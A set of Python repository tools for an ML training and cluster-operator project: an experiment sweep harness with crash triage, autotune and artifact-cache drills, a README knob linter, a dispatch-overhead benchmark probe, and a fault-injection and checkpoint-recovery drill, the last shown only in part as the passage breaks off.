def _flight_snapshot(telemetry_dir: str) -> dict | None:
    """Newest flight-recorder snapshot (telemetry/flight.py) from the
    experiment's scratch KO_TELEMETRY_DIR, or None.  When present it
    supersedes the raw spans tail in triage: it carries the final
    metric values (collector samples) alongside the span ring."""
    try:
        names = sorted(n for n in os.listdir(telemetry_dir)
                       if n.startswith("flight_") and n.endswith(".json"))
    except OSError:
        return None
    for name in reversed(names):
        try:
            with open(os.path.join(telemetry_dir, name)) as f:
                return json.load(f)
        except (OSError, json.JSONDecodeError):
            continue
    return None


def _kolint_snapshot(max_lines: int = 20) -> list | None:
    """Unwaived kolint findings, gathered best-effort when a row dies:
    a crashed experiment plus a fresh invariant violation usually share
    a root cause (e.g. a rule-10 one-hot reappearing right before a
    SIGSEGV row), so the triage record carries both."""
    try:
        proc = subprocess.run(
            [sys.executable, "-m", "tools.kolint", "--json"], cwd=REPO,
            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
            timeout=120)
        rep = json.loads(proc.stdout or "{}")
    except Exception:
        return None
    live = [f"{f['rule']} {f['path']}:{f['line']}: {f['msg']}"
            for f in rep.get("findings", []) if not f.get("waived")]
    return live[:max_lines] or None


def _last_json_line(output: str):
    for line in reversed(output.splitlines()):
        line = line.strip()
        if line.startswith("{"):
            try:
                return json.loads(line)
            except json.JSONDecodeError:
                continue
    return None


def run_experiment(name: str, env_overlay: dict, *, cmd=None,
                   timeout: float = 3600, tail_lines: int = 30) -> dict:
    """Run one experiment; return its JSONL row (never raises on a
    failing experiment — failure evidence goes into the row)."""
    env_overlay = dict(env_overlay)
    row_cmd = env_overlay.pop("_cmd", None)
    cmd = cmd or row_cmd or [sys.executable, os.path.join(REPO, "bench.py")]
    env = dict(os.environ, **{k: str(v) for k, v in env_overlay.items()})
    t0 = time.time()
    # Scratch telemetry dir per experiment (a caller/overlay-provided
    # KO_TELEMETRY_DIR wins): the child's tracer flushes spans.jsonl
    # there, and on a crash its tail becomes triage evidence.
    with tempfile.TemporaryDirectory(prefix=f"ko-sweep-{name}-") as scratch:
        env.setdefault("KO_TELEMETRY_DIR", scratch)
        try:
            proc = subprocess.run(
                cmd, env=env, cwd=REPO, timeout=timeout,
                stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
            )
            output, returncode = proc.stdout or "", proc.returncode
        except subprocess.TimeoutExpired as exc:
            out = exc.stdout
            output = out.decode(errors="replace") if isinstance(out, bytes) else (out or "")
            returncode = 124
        wall = round(time.time() - t0, 1)
        rc, _ = _decode_rc(returncode)
        row = {"exp": name, "wall_s": wall, "rc": rc,
               "result": _last_json_line(output) if rc == 0 else None}
        if rc != 0:
            row["triage"] = triage(output, returncode, tail_lines=tail_lines)
            # Prefer the flight-recorder snapshot (final metric values +
            # span tail) over the raw spans tail when one exists.
            flight = _flight_snapshot(env["KO_TELEMETRY_DIR"])
            if flight is not None:
                row["triage"]["flight"] = flight
                row["triage"]["telemetry_tail"] = None
            else:
                row["triage"]["telemetry_tail"] = _spans_tail(
                    os.path.join(env["KO_TELEMETRY_DIR"], "spans.jsonl"))
            # Invariant check rides along on every dead row (the kolint
            # row itself already IS that output, so skip the rerun).
            if name != "kolint":
                row["triage"]["kolint"] = _kolint_snapshot()
    return row


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--exps", default="fsdp8",
                    help=f"comma list from {sorted(EXPERIMENTS)}")
    ap.add_argument("--out", default="", help="JSONL path (append); default stdout")
    ap.add_argument("--cmd", default="", help="override experiment command line")
    ap.add_argument("--timeout", type=float, default=3600)
    ap.add_argument("--tail-lines", type=int, default=30)
    args = ap.parse_args(argv)

    cmd = args.cmd.split() if args.cmd else None
    rows = []
    for name in args.exps.split(","):
        name = name.strip()
        if name not in EXPERIMENTS:
            ap.error(f"unknown experiment {name!r} (have {sorted(EXPERIMENTS)})")
        print(f"sweep: running {name}", file=sys.stderr)
        row = run_experiment(name, EXPERIMENTS[name], cmd=cmd,
                             timeout=args.timeout, tail_lines=args.tail_lines)
        rows.append(row)
        line = json.dumps(row)
        if args.out:
            with open(args.out, "a") as f:
                f.write(line + "\n")
        print(line)
    failed = [r["exp"] for r in rows if r["rc"] != 0]
    if failed:
        print(f"sweep: FAILED {failed}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
