"""Autotune-loop + artifact-store drills (ISSUE 9 acceptance gates).

Two drills, both CPU-complete under KO_PROBE_FAST and both wired as
sweep rows (tools/sweep.py: ``autotune``, ``neff_warm``):

  --drill loop (default):
    1. run the autotune loop for the attention + rmsnorm probe shapes
       against a fresh best-config cache — must sweep candidates
       (recompiles > 0) and persist the cache file;
    2. run it again — must short-circuit on the cache (0 recompiles,
       cache-hit metric > 0);
    3. verify the kernels' trace-time ``consult`` resolves the winner;
    4. AOT-publish the same shapes into a content-addressed
       ArtifactStore and fetch them back, digest-verified.

  --drill warm:
    publish artifacts carrying cache_path metadata, warm a node cache
    dir twice (second pass must be a full skip), corrupt one entry and
    confirm the warm skips-and-counts it rather than installing it.

Prints ONE JSON line (``{"metric": "autotune_probe", ...}``); any gate
failure exits nonzero with the reason in the JSON detail — sweep.py
attaches the triage record.
"""

import argparse
import json
import os
import sys
import tempfile
import time

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, REPO)

# One-JSON-line contract (same dup2 idiom as bench.py): diagnostics to
# stderr, stdout reserved for the final record.
_REAL_STDOUT = os.dup(1)
os.dup2(2, 1)


def emit(line: str):
    os.write(_REAL_STDOUT, (line + "\n").encode())


def log(msg):
    print(f"sweep: {msg}", file=sys.stderr, flush=True)


#: probe shapes — tiny enough for CPU CI, legal for both kernels
ATTN_SHAPE = (1, 128, 4, 2, 32)
RMS_SHAPE = (256, 64)


def _counter(name: str, store: str) -> float:
    from kubeoperator_trn.telemetry import get_registry

    metric = get_registry().get(name)
    if metric is None:
        return 0.0
    try:
        return metric.labels(store=store).value
    except Exception:
        return 0.0


def drill_loop(scratch: str) -> dict:
    from kubeoperator_trn.cluster.offline_repo import (
        ArtifactStore,
        compile_key,
        content_digest,
    )
    from kubeoperator_trn.kernels import autotune as at

    cache = os.environ["KO_AUTOTUNE_CACHE"]
    gates, detail = [], {}

    # 1) cold loop: sweep + persist
    t0 = time.time()
    r1a = at.autotune("attention_nki", ATTN_SHAPE, "float32", workers=0,
                      log=log)
    r1r = at.autotune("rmsnorm_nki", RMS_SHAPE, "float32", workers=0, log=log)
    detail["cold"] = {"attention": r1a, "rmsnorm": r1r,
                      "wall_s": round(time.time() - t0, 2)}
    gates.append(("cold_sweeps", r1a["recompiles"] > 0
                  and r1r["recompiles"] > 0))
    gates.append(("cache_file_written", os.path.exists(cache)))
    gates.append(("winner_recorded", bool(r1a["config"] and r1r["config"])))

    # 2) warm loop: cache answers, nothing recompiles
    hits_before = _counter("ko_ops_compile_cache_hits_total", "best_config")
    r2a = at.autotune("attention_nki", ATTN_SHAPE, "float32", workers=0)
    r2r = at.autotune("rmsnorm_nki", RMS_SHAPE, "float32", workers=0)
    hits_after = _counter("ko_ops_compile_cache_hits_total", "best_config")
    detail["warm"] = {"attention": r2a, "rmsnorm": r2r,
                      "cache_hits_delta": hits_after - hits_before}
    gates.append(("warm_zero_recompiles",
                  r2a["recompiles"] == 0 and r2r["recompiles"] == 0
                  and r2a["cached"] and r2r["cached"]))
    gates.append(("cache_hit_metric", hits_after - hits_before >= 2))

    # 3) trace-time consult resolves the recorded winner
    ca = at.consult("attention_nki", ATTN_SHAPE, "float32")
    cr = at.consult("rmsnorm_nki", RMS_SHAPE, "float32")
    detail["consult"] = {"attention": ca, "rmsnorm": cr}
    gates.append(("consult_resolves", ca == r1a["config"]
                  and cr == r1r["config"]))

    # 4) content-addressed publish/fetch round-trip of the best configs
    store = ArtifactStore(os.path.join(scratch, "mirror"))
    digests = {}
    for kernel, shape, rec in (("attention_nki", ATTN_SHAPE, r1a),
                               ("rmsnorm_nki", RMS_SHAPE, r1r)):
        blob = json.dumps(rec["config"]).encode()
        digest = compile_key(f"probe:{kernel}", {"shape": list(shape)})
        store.publish(digest, blob, meta={"kernel": kernel,
                                          "best_config": rec["config"]})
        got, meta = store.fetch(digest)
        digests[kernel] = digest[:12]
        if got != blob or content_digest(got) != meta["content_sha256"]:
            gates.append((f"roundtrip_{kernel}", False))
        else:
            gates.append((f"roundtrip_{kernel}", True))
    detail["store"] = {"digests": digests,
                       "cas_publishes": _counter(
                           "ko_ops_compile_publish_total", "cas")}
    return {"gates": gates, "detail": detail}


def drill_warm(scratch: str) -> dict:
    from kubeoperator_trn.cluster.offline_repo import ArtifactStore
    from kubeoperator_trn.cluster.compile_farm import warm_node_cache

    gates, detail = [], {}
    mirror = os.path.join(scratch, "mirror")
    cache_dir = os.path.join(scratch, "neuron-compile-cache")
    store = ArtifactStore(mirror)
    blobs = {}
    for i in range(3):
        blob = f"neff-stand-in-{i}".encode() * 64
        digest = f"{i:02d}" + "ab" * 31  # synthetic fixed addresses
        store.publish(digest, blob, meta={
            "cache_path": os.path.join("mod", f"m{i}.neff")})
        blobs[digest] = blob

    w1 = warm_node_cache(mirror_root=mirror, cache_dir=cache_dir, log=log)
    gates.append(("warm_installs", len(w1["installed"]) == 3
                  and not w1["corrupt"]))
    w2 = warm_node_cache(mirror_root=mirror, cache_dir=cache_dir, log=log)
    gates.append(("warm_idempotent", not w2["installed"]
                  and len(w2["skipped"]) == 3))

    # corrupt one entry: truncate its blob in the store
    victim = store.list_digests()[0]
    blob_path = os.path.join(store._entry_dir(victim), "blob")
    with open(blob_path, "wb") as f:
        f.write(blobs[victim][: len(blobs[victim]) // 2])
    # remove its installed copy so the warm would want to reinstall it
    os.remove(os.path.join(cache_dir, "mod", "m0.neff"))
    w3 = warm_node_cache(mirror_root=mirror, cache_dir=cache_dir, log=log)
    gates.append(("corrupt_skipped", w3["corrupt"] == [victim]
                  and not w3["installed"]))
    gates.append(("corrupt_not_installed",
                  not os.path.exists(os.path.join(cache_dir, "mod",
                                                  "m0.neff"))))
    detail["warm"] = {"first": {k: len(v) for k, v in w1.items()
                                if isinstance(v, list)},
                      "corrupt_digest": victim[:12]}
    return {"gates": gates, "detail": detail}


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--drill", choices=("loop", "warm"), default="loop")
    args = ap.parse_args(argv)

    os.environ.setdefault("KO_PROBE_FAST", "1")
    t0 = time.time()
    with tempfile.TemporaryDirectory(prefix="ko-autotune-probe-") as scratch:
        # hermetic best-config cache unless the caller pinned one
        os.environ.setdefault("KO_AUTOTUNE_CACHE",
                              os.path.join(scratch, "autotune_best.json"))
        result = (drill_loop if args.drill == "loop" else drill_warm)(scratch)

    failed = [name for name, ok in result["gates"] if not ok]
    for name, ok in result["gates"]:
        log(f"gate {name}: {'ok' if ok else 'FAIL'}")
    emit(json.dumps({
        "metric": "autotune_probe",
        "value": 0 if not failed else 1,
        "unit": "failed_gates",
        "detail": {"drill": args.drill, "failed": failed,
                   "gates": [n for n, _ in result["gates"]],
                   "wall_s": round(time.time() - t0, 2),
                   **result["detail"]},
    }, default=str))
    return 1 if failed else 0


if __name__ == "__main__":
    raise SystemExit(main())
