"""Thin shim: knob lint now lives in tools/kolint/knobs.py as kolint
rule KL007 (ISSUE 14).  This module keeps the historical entry point
(``python tools/knob_lint.py``) and API (``lint()``, ``main()``, the
regexes) importable from the old location so tier-1 behavior is
unchanged.

Usage:  python tools/knob_lint.py
"""

import os
import sys

_REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
if _REPO not in sys.path:
    # tests import this module by file path; make `tools.kolint`
    # resolvable regardless of how we were loaded.
    sys.path.insert(0, _REPO)

from tools.kolint.knobs import (  # noqa: E402,F401
    CODE_ROOTS,
    QUOTED,
    REPO,
    TABLE_ROW,
    documented_knobs,
    lint,
    main,
    referenced_knobs,
)

if __name__ == "__main__":
    raise SystemExit(main())
