"""Knob lint: every KO_* environment variable referenced in code must
be documented in README.md's knob table (the "## Knobs" section).

A code reference is a quoted "KO_FOO" string literal in a .py file
under the scanned roots — env-var names are always quoted at use sites
(``os.environ.get("KO_FOO")``, ``env("KO_FOO", ...)``, pod-template
env lists), while non-knob strings like facts.py's "KO_PROBE:" marker
carry extra characters inside the quotes and don't match.  A knob is
documented when README.md has a table row starting ``| `KO_FOO` ``.

Exits 1 listing the missing names; tests/test_knob_lint.py runs this in
tier-1, so a new knob cannot land undocumented.

Usage:  python tools/knob_lint.py
"""

import os
import re
import sys

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

#: roots scanned for knob references (file or directory, repo-relative).
CODE_ROOTS = ("kubeoperator_trn", "tools", "bench.py", "__graft_entry__.py")
QUOTED = re.compile(r"""["'](KO_[A-Z0-9_]+)["']""")
TABLE_ROW = re.compile(r"^\|\s*`(KO_[A-Z0-9_]+)`", re.MULTILINE)


def referenced_knobs(repo: str = REPO) -> set:
    found = set()
    for root in CODE_ROOTS:
        path = os.path.join(repo, root)
        if os.path.isfile(path):
            files = [path]
        else:
            files = [os.path.join(dp, f)
                     for dp, _, fs in os.walk(path)
                     for f in fs
                     # skip ourselves: the docstring's KO_FOO example
                     # must not count as a referenced knob
                     if f.endswith(".py") and f != "knob_lint.py"]
        for fp in files:
            try:
                with open(fp, encoding="utf-8") as f:
                    found.update(QUOTED.findall(f.read()))
            except OSError:
                continue
    return found


def documented_knobs(readme_path: str) -> set:
    with open(readme_path, encoding="utf-8") as f:
        return set(TABLE_ROW.findall(f.read()))


def lint(repo: str = REPO) -> tuple[list, list]:
    """(referenced-but-undocumented, documented-but-unreferenced)."""
    ref = referenced_knobs(repo)
    doc = documented_knobs(os.path.join(repo, "README.md"))
    return sorted(ref - doc), sorted(doc - ref)


def main() -> int:
    missing, stale = lint()
    for name in stale:
        # Stale rows are a warning, not a failure: a doc-first knob about
        # to gain its code reference shouldn't break tier-1.
        print(f"knob_lint: WARNING {name} documented in README.md but not "
              "referenced in code", file=sys.stderr)
    if missing:
        print("knob_lint: KO_* knobs referenced in code but missing from "
              "README.md's knob table:", file=sys.stderr)
        for name in missing:
            print(f"  {name}", file=sys.stderr)
        return 1
    print(f"knob_lint: OK ({len(referenced_knobs())} knobs documented)")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
