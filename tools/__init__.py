"""Repo tooling: kolint static-analysis plane, knob lint, sweep harness,
probes.  Package marker so ``python -m tools.kolint`` resolves; the
scripts in here still run fine as plain ``python tools/<name>.py``.
"""
