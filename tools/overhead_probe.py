"""Dispatch-overhead micro-probe for the axon tunnel (VERDICT r2 item 1a).

The MFU strategy hinges on one number: the fixed per-dispatch overhead
of the tunnel runtime.  If a trivial jitted op and a tiny train step
both take ~hundreds of ms round-trip, the 200M bench step's wall time
is overhead-dominated and the fix is more tokens per dispatch (bigger
batch via in-step grad-accum scan, bigger models) — not faster kernels.

Measures (all warm, median of N):
  tiny_add      jitted (128,128) add — pure dispatch+transfer floor
  tiny_step     llama3_tiny full train step, bsz4 seq128 (~25s compile)
  bench_step    llama3_200m fsdp8 bsz256 seq128 (cache-warm bench module)
  multi_step    K-step fused scan sweep (K in {1,4,8,16}): per-call and
                per-step wall, plus a two-point fit separating the
                per-call dispatch floor from per-step compute —
                dispatch_ms_per_step at K=8 is the amortization headline

KO_PROBE_FAST=1 trims the sweep (K in {1,4}, 3 reps, skips the 200M
bench_step) for CI smoke runs.  Writes one JSON line to stdout;
diagnostics to stderr.
"""

import json
import os
import statistics
import sys

# runnable as `python tools/overhead_probe.py` from anywhere
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import time

_REAL_STDOUT = os.dup(1)
os.dup2(2, 1)


def emit(line):
    os.write(_REAL_STDOUT, (line + "\n").encode())


def log(msg):
    print(msg, file=sys.stderr, flush=True)


def med_time(fn, *args, n=12):
    out = fn(*args)
    import jax

    jax.block_until_ready(out)
    ts = []
    for _ in range(n):
        t0 = time.time()
        out = fn(*args)
        jax.block_until_ready(out)
        ts.append(time.time() - t0)
    return statistics.median(ts)


def main():
    import jax
    import jax.numpy as jnp

    from kubeoperator_trn.models import llama
    from kubeoperator_trn.parallel.mesh import MeshPlan, build_mesh
    from kubeoperator_trn.parallel.sharding import batch_spec
    from kubeoperator_trn.train.optim import AdamWConfig
    from kubeoperator_trn.train.train_step import TrainStepConfig, make_train_step

    platform = jax.devices()[0].platform
    n_dev = len(jax.devices())
    fast = os.environ.get("KO_PROBE_FAST") == "1"
    log(f"probe: platform={platform} n_dev={n_dev} fast={fast}")
    result = {"metric": "dispatch_overhead_ms", "platform": platform}

    # 1. trivial op round-trip
    x = jnp.ones((128, 128), jnp.bfloat16)
    add = jax.jit(lambda a: a + 1)
    t_add = med_time(add, x)
    log(f"probe: tiny_add {t_add*1e3:.1f}ms")
    result["tiny_add_ms"] = round(t_add * 1e3, 2)

    # 2. tiny model full train step (single device is fine — overhead
    #    is per-dispatch, not per-core)
    def step_time(preset, plan, bsz, seq):
        cfg = llama.PRESETS[preset]
        mesh = build_mesh(plan)
        tcfg = TrainStepConfig(
            model=cfg,
            optim=AdamWConfig(warmup_steps=10, total_steps=1000),
            plan=plan,
        )
        step, init_host, init_sharded, make_jitted, mesh = make_train_step(
            tcfg, mesh=mesh
        )
        state = init_host(0) if platform == "neuron" else init_sharded(
            jax.random.key(0)
        )
        jax.block_until_ready(state)
        jitted = make_jitted(state)
        toks = jax.random.randint(jax.random.key(1), (bsz, seq + 1), 0,
                                  cfg.vocab_size)
        batch = {
            "inputs": toks[:, :-1].astype(jnp.int32),
            "targets": toks[:, 1:].astype(jnp.int32),
        }
        batch = jax.device_put(batch, jax.NamedSharding(mesh, batch_spec()))
        t0 = time.time()
        state, metrics = jitted(state, batch)
        jax.block_until_ready(metrics["loss"])
        log(f"probe: {preset} compile+first {time.time()-t0:.1f}s")
        ts = []
        for _ in range(10):
            t0 = time.time()
            state, metrics = jitted(state, batch)
            jax.block_until_ready(metrics["loss"])
            ts.append(time.time() - t0)
        return statistics.median(ts)

    t_tiny = step_time("llama3_tiny", MeshPlan(fsdp=n_dev), 32, 128)
    log(f"probe: tiny_step {t_tiny*1e3:.1f}ms")
    result["tiny_step_ms"] = round(t_tiny * 1e3, 2)

    # 3. the cache-warm bench module (skipped in fast mode — its compile
    #    alone dwarfs a CI smoke budget)
    if not fast:
        t_bench = step_time("llama3_200m", MeshPlan(fsdp=n_dev), 256, 128)
        log(f"probe: bench_step {t_bench*1e3:.1f}ms")
        result["bench_step_ms"] = round(t_bench * 1e3, 2)

    # 4. K-step fused scan sweep (ISSUE 5): how much of the per-call
    #    dispatch floor does lax.scan amortize away?  One make_multi_step
    #    handle serves every K — scan length is dynamic per trace, so
    #    each K costs one compile of the same program.
    result["multi_step"] = multi_step_sweep(
        platform, n_dev,
        ks=(1, 4) if fast else (1, 4, 8, 16),
        reps=3 if fast else 10,
        bsz=8 if fast else 32,
        seq=64 if fast else 128,
    )

    result["note"] = (
        "tiny_add ~= dispatch floor; tiny_step - tiny_add ~= runtime "
        "launch cost for a real NEFF; bench_step - tiny_step ~= actual "
        "200M compute+comm; multi_step.dispatch_ms_per_step ~= floor/K "
        "after subtracting the fitted per-step compute"
    )
    emit(json.dumps(result))


def multi_step_sweep(platform, n_dev, ks, reps, bsz, seq):
    """Time the K-step fused loop at each K and fit out the dispatch floor.

    Linear model: call_ms(K) ~= floor + K * compute_ms.  Two-point fit
    from the sweep's min and max K; dispatch_ms_per_step(K) is then
    per_step_ms(K) - compute_ms, the amortized residual the acceptance
    gate checks (K=8 must be <= 1/4 of K=1).
    """
    import jax
    import jax.numpy as jnp

    from kubeoperator_trn.models import llama
    from kubeoperator_trn.parallel.mesh import MeshPlan
    from kubeoperator_trn.train.optim import AdamWConfig
    from kubeoperator_trn.train.train_step import (
        TrainStepConfig, make_multi_step, superbatch_spec)

    cfg = llama.PRESETS["llama3_tiny"]
    plan = MeshPlan(fsdp=n_dev)
    tcfg = TrainStepConfig(
        model=cfg,
        optim=AdamWConfig(warmup_steps=10, total_steps=1000),
        plan=plan,
    )
    step, init_host, init_sharded, make_jitted, mesh = make_multi_step(tcfg)
    state = init_host(0) if platform == "neuron" else init_sharded(
        jax.random.key(0))
    jax.block_until_ready(state)
    jitted = make_jitted(state)
    sb_sharding = jax.NamedSharding(mesh, superbatch_spec())

    def superbatch(k):
        toks = jax.random.randint(jax.random.key(k), (k, bsz, seq + 1), 0,
                                  cfg.vocab_size)
        sb = {"inputs": toks[..., :-1].astype(jnp.int32),
              "targets": toks[..., 1:].astype(jnp.int32)}
        return jax.device_put(sb, sb_sharding)

    sweep = []
    for k in ks:
        sb = superbatch(k)
        t0 = time.time()
        state, metrics = jitted(state, sb)
        jax.block_until_ready(metrics["loss"])
        log(f"probe: multi_step K={k} compile+first {time.time()-t0:.1f}s")
        ts = []
        for _ in range(reps):
            t0 = time.time()
            state, metrics = jitted(state, sb)
            jax.block_until_ready(metrics["loss"])
            ts.append(time.time() - t0)
        call = statistics.median(ts)
        sweep.append({"steps_per_call": k,
                      "call_ms": round(call * 1e3, 2),
                      "per_step_ms": round(call / k * 1e3, 2)})
        log(f"probe: multi_step K={k} call={call*1e3:.1f}ms "
            f"per_step={call/k*1e3:.1f}ms")

    lo, hi = sweep[0], sweep[-1]
    k_lo, k_hi = lo["steps_per_call"], hi["steps_per_call"]
    if k_hi > k_lo:
        compute_ms = (hi["call_ms"] - lo["call_ms"]) / (k_hi - k_lo)
    else:
        compute_ms = lo["call_ms"]
    compute_ms = max(compute_ms, 0.0)
    floor_ms = max(lo["call_ms"] - k_lo * compute_ms, 0.0)
    for row in sweep:
        row["dispatch_ms_per_step"] = round(
            max(row["per_step_ms"] - compute_ms, 0.0), 2)
    log(f"probe: multi_step fit compute={compute_ms:.1f}ms/step "
        f"floor={floor_ms:.1f}ms/call")
    return {"sweep": sweep,
            "fit_compute_ms_per_step": round(compute_ms, 2),
            "fit_dispatch_floor_ms": round(floor_ms, 2)}


if __name__ == "__main__":
    main()
