"""Fault-injection drill for the node-doctor subsystem (ISSUE 1 CI
tooling) and, with ``--chaos``, a live-fire recovery drill for the
elastic training loop (ISSUE 7).

Default mode: stand up a dry-run control plane in-process, create a trn2
cluster, kill a fake worker host, and assert the full remediation loop
end-to-end —

  detection within the probe window -> events journal records the
  transition -> drain + host replacement runs through the TaskEngine ->
  cluster returns to Running -> a flapping node trips the circuit
  breaker and alerts instead of repair-looping.

No hardware, no network listeners beyond loopback, no sleeps: the drill
drives the doctor's tick() with a fake clock, exactly like the unit
tests but across the real build_app wiring (API + engine + provisioner
+ journal + notifier).

``--chaos`` mode: a REAL training run on the CPU mesh (tiny preset,
8 virtual devices), attacked the way a fleet attacks it —

  SIGTERM mid-run   -> checkpoints at the next window boundary, exits
                       KO_EXIT_PREEMPTED (loses at most one window);
  resume + SIGKILL  -> dies with no chance to react; the atomic
                       checkpoint writes mean LATEST still names a
                       complete step dir;
  resume to the end -> final loss must equal an uninterrupted golden
                       run bitwise-close (the data stream is a pure
                       function of (seed, step), so a continuous curve
                       IS equality) — monotone global step within each
                       leg, every resume from the last durable window;
  elastic restore   -> the final checkpoint re-restored at 8 and 2
                       devices is bitwise-equal to the host arrays.

Both modes: exit 0 and one JSON summary line on stdout when every stage
holds; exit 1 with the failed stage otherwise (sweep.py rc-triage rows).

Usage: python tools/doctor_drill.py [--chaos]
KO_PROBE_FAST=1 shortens the chaos run for CI.
"""

import json
import os
import re
import signal
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))


def log(msg):
    print(msg, file=sys.stderr, flush=True)


def check(name, cond, detail=""):
    if not cond:
        log(f"DRILL FAILED at stage: {name} {detail}")
        print(json.dumps({"ok": False, "failed_stage": name,
                          "detail": str(detail)}))
        sys.exit(1)
    log(f"ok: {name}")


def fault_drill():
    from kubeoperator_trn.cluster import entities as E
    from kubeoperator_trn.cluster import events as EV
    from kubeoperator_trn.cluster.doctor import NodeDoctor
    from kubeoperator_trn.cluster.neuron_monitor import fake_monitor_sample
    from kubeoperator_trn.cluster.notify import FakeChannel, NotificationService
    from kubeoperator_trn.cluster.runner import FakeRunner
    from kubeoperator_trn.server import build_app

    runner = FakeRunner()
    api, engine, db = build_app(runner=runner, require_auth=False)
    channel = FakeChannel()
    notifier = NotificationService(db, extra_channels=[channel],
                                   synchronous=True)

    clock = {"t": 0.0}
    samples = {}
    doctor = NodeDoctor(db, api.service, api.journal, notifier=notifier,
                        samples_fn=lambda: dict(samples),
                        now_fn=lambda: clock["t"],
                        interval_s=15.0, fails_to_unhealthy=3,
                        max_repairs=2, window_s=3600.0, backoff_base_s=60.0)

    # -- bring up a dry-run trn2 cluster (ec2 provider, FakeCloud) ------
    nodes = [{"name": "master-0", "role": "master"},
             {"name": "worker-0", "role": "worker"},
             {"name": "worker-1", "role": "worker"}]
    status, out = api.handle("POST", "/api/v1/clusters", {
        "name": "drill", "spec": {"provider": "ec2", "neuron": True},
        "nodes": nodes,
    }, {})
    check("create accepted", status == 202, out)
    engine.wait(out["task_id"], timeout=60)
    cluster = db.get_by_name("clusters", "drill")
    check("cluster running", cluster["status"] == E.ST_RUNNING,
          cluster["status"])
    # the FakeRunner doesn't execute post-check, which is what stores
    # the kubeconfig on a real bring-up — stamp it so the doctor's
    # api-server check sees a reachable control plane
    cluster["kubeconfig"] = "drill-kubeconfig"
    db.put("clusters", cluster["id"], cluster)

    doctor.tick()
    check("healthy baseline: no events", db.get_events(limit=10) == [])

    # -- kill worker-1's host -------------------------------------------
    victim = next(n for n in cluster["nodes"] if n["name"] == "worker-1")
    host = db.get("hosts", victim["host_id"])
    host["status"] = "Down"
    db.put("hosts", host["id"], host)
    old_invocations = len(runner.invocations)

    # detection within the probe window: fails_to_unhealthy * interval
    for _ in range(doctor.fails_to_unhealthy):
        clock["t"] += doctor.interval_s
        doctor.tick()
    unhealthy = [e for e in db.get_events(limit=100)
                 if e["kind"] == EV.KIND_HEALTH_UNHEALTHY]
    check("detected within probe window",
          unhealthy and unhealthy[0]["node"] == "worker-1",
          [e["kind"] for e in db.get_events(limit=100)])
    check("events row records cause", "Down" in unhealthy[0]["cause"],
          unhealthy[0])

    rems = doctor.remediations
    check("remediation task enqueued", len(rems) == 1, rems)
    engine.wait(rems[0]["task_id"], timeout=60)
    task = db.get("tasks", rems[0]["task_id"])
    check("repair task succeeded via TaskEngine",
          task["status"] == E.T_SUCCESS and task["op"] == "repair", task)
    drill_playbooks = [i.playbook for i in runner.invocations[old_invocations:]]
    check("drain ran first", drill_playbooks[:2] == ["drain-nodes",
                                                     "remove-nodes"],
          drill_playbooks)
    check("node rejoined", "kubeadm-join" in drill_playbooks,
          drill_playbooks)
    host = db.get("hosts", victim["host_id"])
    check("host replaced (Running again)", host["status"] == "Running", host)
    cluster = db.get_by_name("clusters", "drill")
    check("cluster back to Running", cluster["status"] == E.ST_RUNNING,
          cluster["status"])

    clock["t"] += doctor.interval_s
    doctor.tick()  # harvest
    kinds = [e["kind"] for e in db.get_events(limit=100)]
    check("journal has the full story",
          all(k in kinds for k in (EV.KIND_HEALTH_DEGRADED,
                                   EV.KIND_HEALTH_UNHEALTHY,
                                   EV.KIND_REMEDIATION_START,
                                   EV.KIND_REMEDIATION_SUCCESS)), kinds)
    check("alerts fired", any(ev == "doctor.remediation.start"
                              for ev, _ in channel.sent),
          [ev for ev, _ in channel.sent])

    # -- flapping node: persistent device errors trip the breaker -------
    samples["worker-0"] = fake_monitor_sample(n_devices=1, cores_per_device=1,
                                              device_errors=4)
    for _ in range(20):
        clock["t"] += doctor.interval_s
        doctor.tick()
        for rem in doctor.remediations:
            engine.wait(rem["task_id"], timeout=60)
    # the budget is per CLUSTER: worker-1's earlier repair counts, so
    # worker-0 only gets the remainder before the breaker opens
    check("breaker capped repairs at budget",
          len(doctor.remediations) == doctor.max_repairs,
          doctor.remediations)
    repairs_after = [r for r in doctor.remediations if r["node"] == "worker-0"]
    giveups = [e for e in db.get_events(limit=200)
               if e["kind"] == EV.KIND_REMEDIATION_GIVEUP]
    check("giveup announced exactly once", len(giveups) == 1, giveups)
    check("giveup alert delivered",
          any(ev == "doctor.remediation.giveup" for ev, _ in channel.sent),
          [ev for ev, _ in channel.sent])

    engine.shutdown()
    print(json.dumps({
        "ok": True,
        "probe_window_s": doctor.interval_s * doctor.fails_to_unhealthy,
        "repair_task_id": rems[0]["task_id"],
        "repair_playbooks": drill_playbooks,
        "events_recorded": len(db.get_events(limit=1000)),
        "breaker_tripped_after": len(repairs_after),
    }))


# -- chaos mode (ISSUE 7): live-fire elastic recovery -------------------

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

#: same -c shim as tests/test_launch.py: sitecustomize pins
#: JAX_PLATFORMS=axon and rewrites XLA_FLAGS at interpreter start, so
#: the CPU mesh must be forced in-process.
_SHIM = (
    "import os; os.environ['XLA_FLAGS']=os.environ.get('XLA_FLAGS','')"
    "+' --xla_force_host_platform_device_count=8';"
    "import jax; jax.config.update('jax_platforms','cpu');"
    "import sys; sys.argv=['launch'];"
    "from kubeoperator_trn.launch import main; main()"
)

_STEP_RE = re.compile(r"^step (\d+) loss ([0-9.]+)")
_CKPT_RE = re.compile(r"^checkpoint @ (\d+)$")
_RESUME_RE = re.compile(r"^resumed from step (\d+)$")
_PREEMPT_RE = re.compile(r"checkpoint @ (\d+), exiting rc=(\d+)")


class _Trainer:
    """One launch.py subprocess with line-wise stdout tailing."""

    def __init__(self, env):
        self.proc = subprocess.Popen(
            [sys.executable, "-c", _SHIM], env=env, cwd=REPO,
